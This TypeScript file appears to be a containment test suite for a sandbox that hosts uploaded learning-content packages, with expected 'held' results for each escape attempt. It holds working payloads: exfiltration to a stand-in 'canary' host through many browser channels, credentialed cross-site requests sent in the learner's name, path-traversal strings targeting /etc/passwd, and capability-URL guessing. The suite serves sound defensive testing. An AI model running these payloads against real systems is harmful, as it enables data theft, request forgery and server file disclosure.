/** What a package sends and loads: to a third party, to the application in its learner's name, and from other packages. */
import { type Attempt, either } from "./attempt";

/** Elements that load, with the attribute that says what. */
const loading = (tag: string, attribute: string, to: "canary" | "appMark", more = ""): Attempt => ({
  name: `load ${to === "canary" ? "a third party's address" : "the application's address"} by <${tag}${more && ` ${more}`}>`,
  held: either("asked"),
  run: new Function(
    "aim",
    `const holder = document.createElement("div");
     holder.innerHTML = '<${tag} ${attribute}="' + aim.${to} + '" ${more}></${tag}>';
     document.body.append(holder); return "asked";`,
  ) as Attempt["run"],
});

export const REACH: Attempt[] = [
  {
    name: "fetch a third party's address",
    held: either(),
    run: (aim) => fetch(aim.canary, { mode: "no-cors" }).then(({ type }) => type),
  },
  {
    name: "fetch a third party's address when all is over",
    held: either(),
    run: (aim) =>
      fetch(aim.canary, { mode: "no-cors", keepalive: true, method: "POST", body: "x" }).then(
        ({ type }) => type,
      ),
  },
  {
    name: "leave a beacon with a third party",
    held: either("true", "false"),
    run: (aim) => navigator.sendBeacon(aim.canary, "x"),
  },
  {
    name: "open a socket to a third party",
    held: either("error"),
    run: (aim) =>
      new Promise((resolve) => {
        const socket = new WebSocket(aim.canarySocket);
        socket.onopen = () => resolve("open");
        socket.onerror = () => resolve("error");
      }),
  },
  {
    name: "listen to a third party's events",
    held: either("error"),
    run: (aim) =>
      new Promise((resolve) => {
        const source = new EventSource(aim.canary);
        source.onopen = () => resolve("open");
        source.onerror = () => {
          source.close();
          resolve("error");
        };
      }),
  },
  {
    name: "import a third party's module",
    held: either(),
    run: (aim) => import(/* @vite-ignore */ aim.canary).then(() => "imported"),
  },
  loading("img", "src", "canary"),
  loading("video", "src", "canary"),
  loading("iframe", "src", "canary"),
  loading("object", "data", "canary"),
  loading("embed", "src", "canary"),
  loading("link", "href", "canary", "rel=stylesheet"),
  loading("link", "href", "canary", "rel=prefetch"),
  loading("link", "href", "canary", "rel=preload as=script"),
  loading("link", "href", "canary", "rel=modulepreload"),
  loading("link", "href", "canary", "rel=icon"),
  loading("link", "href", "canary", "rel=manifest"),
  {
    name: "ask a third party for a style sheet's picture and font",
    held: either("asked"),
    run: (aim) => {
      const style = document.createElement("style");
      style.textContent = `@import "${aim.canary}"; @font-face{font-family:e;src:url(${aim.canary})} body{background:url(${aim.canary});font-family:e}`;
      document.head.append(style);
      return "asked";
    },
  },
  {
    name: "speculate on a third party's page",
    held: either("asked"),
    run: (aim) => {
      const script = document.createElement("script");
      script.type = "speculationrules";
      script.textContent = JSON.stringify({
        prefetch: [{ source: "list", urls: [aim.canary], eagerness: "immediate" }],
        prerender: [{ source: "list", urls: [aim.canary], eagerness: "immediate" }],
      });
      document.head.append(script);
      return "asked";
    },
  },
  {
    name: "speculate on a page of the application",
    held: either("asked"),
    run: (aim) => {
      const script = document.createElement("script");
      script.type = "speculationrules";
      script.textContent = JSON.stringify({
        prefetch: [{ source: "list", urls: [aim.appMark], eagerness: "immediate" }],
      });
      document.head.append(script);
      return "asked";
    },
  },
  {
    name: "ping a third party by a link",
    held: either("asked"),
    run: (aim) => {
      const link = Object.assign(document.createElement("a"), { href: "#p", ping: aim.canary });
      document.body.append(link);
      link.click();
      return "asked";
    },
  },
  {
    name: "call a third party over WebRTC",
    held: either("none"),
    run: async (aim) => {
      const peer = new RTCPeerConnection({
        iceServers: [{ urls: `stun:${new URL(aim.canary).host}` }],
      });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 700));
      return "none";
    },
  },
  {
    name: "reach a third party from a worker made of text",
    held: either("error", "refused"),
    run: (aim) =>
      new Promise((resolve) => {
        const worker = new Worker(
          URL.createObjectURL(
            new Blob([
              `fetch("${aim.canary}",{mode:"no-cors"}).then(()=>postMessage("reached"),()=>postMessage("refused"))`,
            ]),
          ),
        );
        worker.onmessage = ({ data }) => resolve(data);
        worker.onerror = () => resolve("error");
      }),
  },
  {
    name: "start a third party's worker",
    held: either("error"),
    run: (aim) =>
      new Promise((resolve) => {
        const worker = new Worker(aim.canary);
        worker.onerror = () => resolve("error");
        worker.onmessage = () => resolve("started");
      }),
  },
  {
    name: "reach a third party from a frame of text",
    held: either("asked"),
    run: (aim) => {
      for (const src of [
        `data:text/html,<img src="${aim.canary}"><script>fetch("${aim.canary}")</script>`,
        URL.createObjectURL(
          new Blob([`<img src="${aim.canary}"><script>fetch("${aim.canary}")</script>`], {
            type: "text/html",
          }),
        ),
      ]) {
        const frame = document.createElement("iframe");
        frame.src = src;
        document.body.append(frame);
      }
      return "asked";
    },
  },
  {
    name: "reach a third party from an empty frame",
    held: either("asked"),
    run: (aim) => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      const inner = frame.contentWindow as unknown as Window & typeof globalThis;
      void inner.fetch(aim.canary, { mode: "no-cors" }).catch(() => {});
      frame.contentDocument?.write(`<img src="${aim.canary}">`);
      return "asked";
    },
  },
  {
    name: "reach a third party from a frame with a script's address",
    held: either("asked"),
    run: (aim) => {
      const frame = document.createElement("iframe");
      frame.src = `javascript:fetch("${aim.canary}",{mode:"no-cors"});"<img src='${aim.canary}'>"`;
      document.body.append(frame);
      return "asked";
    },
  },
  {
    name: "send every address to a third party by a base",
    held: either("asked"),
    run: (aim) => {
      const base = Object.assign(document.createElement("base"), { href: aim.canary });
      document.head.append(base);
      const picture = new Image();
      picture.src = "x.png";
      base.remove();
      return "asked";
    },
  },
  {
    name: "hand a form to a third party",
    held: either("asked"),
    run: (aim) => {
      const frame = Object.assign(document.createElement("iframe"), { name: "sink" });
      const form = Object.assign(document.createElement("form"), {
        action: aim.canary,
        method: "post",
        target: "sink",
      });
      document.body.append(frame, form);
      form.submit();
      return "asked";
    },
  },
  {
    name: "fetch the application's API with the learner's cookies",
    held: either(),
    run: (aim) => fetch(aim.appMark, { credentials: "include" }).then(({ status }) => status),
  },
  {
    name: "post to the application without a preflight",
    held: either(),
    run: (aim) =>
      fetch(aim.appMark, {
        method: "POST",
        mode: "no-cors",
        credentials: "include",
        headers: { "Content-Type": "text/plain" },
        body: '{"registrationId":"x"}',
      }).then(({ type }) => type),
  },
  {
    name: "post to the application the old way",
    held: either("error"),
    run: (aim) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.withCredentials = true;
        request.open("POST", aim.appMark);
        request.onload = () => resolve("answered");
        request.onerror = () => resolve("error");
        request.send("curriculumVersionId=x");
      }),
  },
  {
    name: "leave a beacon with the application",
    held: either("true", "false"),
    run: (aim) =>
      navigator.sendBeacon(
        aim.appMark,
        new Blob(["x=1"], { type: "application/x-www-form-urlencoded" }),
      ),
  },
  {
    name: "hand a form to the application",
    held: either("asked"),
    run: (aim) => {
      const frame = Object.assign(document.createElement("iframe"), { name: "sink2" });
      const form = Object.assign(document.createElement("form"), {
        action: aim.appMark,
        method: "post",
        target: "sink2",
        enctype: "text/plain",
      });
      document.body.append(frame, form);
      form.submit();
      return "asked";
    },
  },
  {
    name: "open a socket to the application",
    held: either("error"),
    run: (aim) =>
      new Promise((resolve) => {
        const socket = new WebSocket(aim.appMark.replace("http", "ws"));
        socket.onopen = () => resolve("open");
        socket.onerror = () => resolve("error");
      }),
  },
  loading("img", "src", "appMark"),
  loading("script", "src", "appMark"),
  loading("iframe", "src", "appMark"),
  loading("iframe", "src", "appMark", "sandbox"),
  loading("object", "data", "appMark"),
  loading("embed", "src", "appMark"),
  loading("link", "href", "appMark", "rel=stylesheet"),
  loading("link", "href", "appMark", "rel=prefetch"),
  {
    name: "send the shell's window to a page of the application",
    held: either("asked"),
    run: (aim) => {
      const frame = document.createElement("iframe");
      document.body.append(frame);
      (frame.contentWindow as Window).location.href = aim.appMark;
      return "asked";
    },
  },
  {
    name: "fetch another registration's file",
    held: either(),
    run: (aim) => fetch(aim.otherOrigin + aim.otherPath).then(({ status }) => status),
  },
  {
    name: "fetch another registration's file without asking",
    held: either(),
    run: (aim) =>
      fetch(aim.otherOrigin + aim.otherPath, { mode: "no-cors" }).then(({ type }) => type),
  },
  {
    name: "fetch another registration's file from one's own origin",
    held: either("404"),
    run: (aim) => fetch(aim.otherPath).then(({ status }) => status),
  },
  {
    name: "see another registration's file as a picture, a script and a page",
    held: either("nothing"),
    run: (aim) =>
      new Promise((resolve) => {
        for (const tag of ["img", "script", "iframe"]) {
          const element = document.createElement(tag) as HTMLImageElement;
          element.onload = () => {
            try {
              if (tag !== "iframe" || (element as unknown as HTMLIFrameElement).contentDocument)
                resolve(`loaded ${tag}`);
            } catch {
              /* foreign */
            }
          };
          element.src = aim.otherOrigin + aim.otherPath;
          document.body.append(element);
        }
        setTimeout(() => resolve("nothing"), 1200);
      }),
  },
  {
    name: "guess a thousand capabilities",
    held: either("0"),
    run: async () => {
      const letters = "abcdefghijklmnopqrstuvwxyz234567";
      let found = 0;
      for (let round = 0; round < 20; round++)
        found += (
          await Promise.all(
            Array.from({ length: 50 }, () =>
              fetch(
                `/${Array.from(crypto.getRandomValues(new Uint8Array(26)), (byte) => letters[byte % 32]).join("")}/index.html`,
              ),
            ),
          )
        ).filter(({ status }) => status !== 404 && status !== 429).length;
      return found;
    },
  },
  {
    name: "climb out of the package by its paths",
    held: either(""),
    run: async (aim) => {
      const root = aim.ownPath.slice(0, 28);
      const climbs = [
        "%2e%2e/%2e%2e/etc/passwd",
        "..%2f..%2f..%2fetc/passwd",
        "..%5c..%5cetc",
        "%252e%252e%252fetc/passwd",
        "....//....//etc/passwd",
        "/etc/passwd",
        "%00",
        "index.html%00.png",
        ".%2e/.%2e/package.json",
        "imsmanifest.xml/../../../x",
        "%c0%ae%c0%ae/x",
        "index.html/",
      ];
      const found = [];
      for (const climb of climbs) {
        const answer = await fetch(root + climb);
        if (answer.status === 200 || answer.status >= 500) found.push(`${climb} ${answer.status}`);
      }
      return found.join(" ");
    },
  },
  {
    name: "write on the content's origin",
    held: either("403 405 405 405 405", "405 405 405 405 405"),
    run: async (aim) =>
      (
        await Promise.all(
          ["POST", "PUT", "DELETE", "PATCH", "PROPFIND"].map((method) =>
            fetch(aim.ownPath, { method }),
          ),
        )
      )
        .map(({ status }) => status)
        .join(" "),
  },
  {
    name: "read what the server keeps behind the content's origin",
    held: either("404 404 404 404 404"),
    run: async () =>
      (
        await Promise.all(
          ["/", "/_bw/", "/_bw/../x", "/healthz", "/api/v1/me"].map((path) => fetch(path)),
        )
      )
        .map(({ status }) => status)
        .join(" "),
  },
];

export const WORKERS: Attempt[] = [
  {
    name: "register a service worker",
    held: either(),
    run: () => navigator.serviceWorker.register("worker.js").then(({ scope }) => scope),
  },
  {
    name: "register a service worker over the shell",
    held: either(),
    run: () =>
      navigator.serviceWorker.register("worker.js", { scope: "/" }).then(({ scope }) => scope),
  },
  {
    name: "register the shell's script as a service worker",
    held: either(),
    run: () =>
      navigator.serviceWorker
        .register(window.parent.document.scripts[0]?.src ?? "", { scope: "/_bw/" })
        .then(({ scope }) => scope),
  },
  {
    name: "register a service worker of text",
    held: either(),
    run: () =>
      navigator.serviceWorker
        .register(URL.createObjectURL(new Blob([""], { type: "text/javascript" })))
        .then(({ scope }) => scope),
  },
  {
    name: "register a service worker as a module",
    held: either(),
    run: () =>
      navigator.serviceWorker
        .register("worker.js?x", { type: "module", updateViaCache: "all" })
        .then(({ scope }) => scope),
  },
  {
    name: "reach the application from a shared worker",
    held: either("refused", "error"),
    run: (aim) =>
      new Promise((resolve) => {
        const worker = new SharedWorker(
          `data:text/javascript,onconnect=({ports:[p]})=>fetch("${aim.appMark}",{credentials:"include",mode:"no-cors"}).then(()=>p.postMessage("reached"),()=>p.postMessage("refused"))`,
        );
        worker.onerror = () => resolve("error");
        worker.port.onmessage = ({ data }) => resolve(data);
        setTimeout(() => resolve("refused"), 1000);
      }),
  },
];
